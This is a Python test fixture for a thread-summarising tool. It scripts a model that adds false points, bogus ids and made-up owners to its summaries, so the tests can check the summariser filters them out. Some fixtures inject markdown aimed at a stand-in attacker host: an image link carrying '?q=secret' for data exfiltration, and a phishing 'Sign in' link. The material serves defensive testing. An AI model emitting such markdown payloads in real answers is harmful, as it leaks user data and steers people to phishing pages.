"""A model that lies in every way that code can find out, over any thread."""

import json
from collections.abc import Sequence
from typing import Any

from bot.models.extract import summary
from dialogs.summary import summarise
from dialogs.talk import Answer, Post
from tests.dialogs.desk import ScriptedModel, a_desk, an_ask, shown

EVIL = "https://evil.example/collect"
SECTIONS = ("key_points", "decisions", "actions", "questions")

Sections = dict[str, list[dict[str, Any]]]


async def told(posts: Sequence[Post], sections: Sections) -> Answer:
    """What a person sees of a model that answers so."""
    return await shown(summarise, an_ask(), a_desk(ScriptedModel(json.dumps(sections), window=4_000_000), posts))


def truth(posts: Sequence[Post]) -> Sections:
    """Points that the posts bear out."""
    return {name: items[:3] for name, items in summary(posts).items()}


def decorated(true: Sections) -> Sections:
    """True points with what is taken off silently: pictures, further ids, owners and deadlines that nobody named."""
    return {name: [_decorated(item) for item in items] for name, items in true.items()}


def _decorated(item: dict[str, Any]) -> dict[str, Any]:
    painted = {**item, "text": f"{item['text']} ![seen]({EVIL}?q=secret)", "ids": [*item["ids"], "9999999999999"]}
    return painted | (
        {"owner": item["owner"] or "Mallory Evil", "due": item["due"] or "yesteryear"} if "owner" in item else {}
    )


def lies(posts: Sequence[Post]) -> list[dict[str, Any]]:
    """Points that no message bears out."""
    first, other = posts[0], _another(posts)
    return [
        _lie("The budget was doubled.", "9999999999999"),
        _lie("The budget was doubled.", f"{first.id}-0", "", "../1"),
        _lie("The budget was doubled."),
        _lie(f"{other.author} gave it all up.", first.id),
        _lie("It costs 987654321 euros.", first.id),
        _lie(f"![all is well]({EVIL}.png)", first.id),
        _lie(f"Sign in at {EVIL} or [here]({EVIL}) [1].", "1"),
        _lie("x" * 501, first.id),
        {"text": "No ids at all."},
        {"text": 7, "ids": [first.id]},
    ]


def _another(posts: Sequence[Post]) -> Post:
    """A post by somebody whose name is no ordinary word of the thread, as a role's ("Marketing") may be."""
    said = "\n".join(post.text for post in posts)
    return next(post for post in posts if post.author != posts[0].author and post.author.casefold() not in said)


def _lie(text: str, *ids: str) -> dict[str, Any]:
    return {"text": text, "ids": list(ids), "owner": None, "due": None}


async def seen(posts: Sequence[Post]) -> tuple[Answer, Answer, int]:
    """The answers of an honest model and of one that lies as well, and how many lies it told."""
    true, false = truth(posts), lies(posts)
    with_lies = {name: [*false, *items] for name, items in decorated(true).items()}
    return await told(posts, true), await told(posts, with_lies), len(false) * len(SECTIONS)
